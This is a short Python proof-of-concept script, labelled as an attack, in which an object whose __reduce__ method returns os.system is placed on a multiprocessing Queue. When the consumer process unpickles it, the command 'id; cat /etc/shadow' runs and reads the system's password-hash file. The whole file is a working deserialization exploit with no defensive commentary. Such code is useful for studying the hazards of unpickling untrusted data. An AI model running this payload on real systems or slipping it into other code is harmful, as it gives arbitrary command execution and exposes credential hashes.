# attack: put an object with a malicious __reduce__ on a multiprocessing Queue; the consumer's get() unpickles it and runs os.system
import os
from multiprocessing import Process, Queue


class Task:
    def __reduce__(self):
        return (os.system, ("id; cat /etc/shadow",))


def consumer(q):
    item = q.get()
    print("consumer got", item)


if __name__ == "__main__":
    q = Queue()
    p = Process(target=consumer, args=(q,))
    p.start()
    q.put(Task())
    p.join()
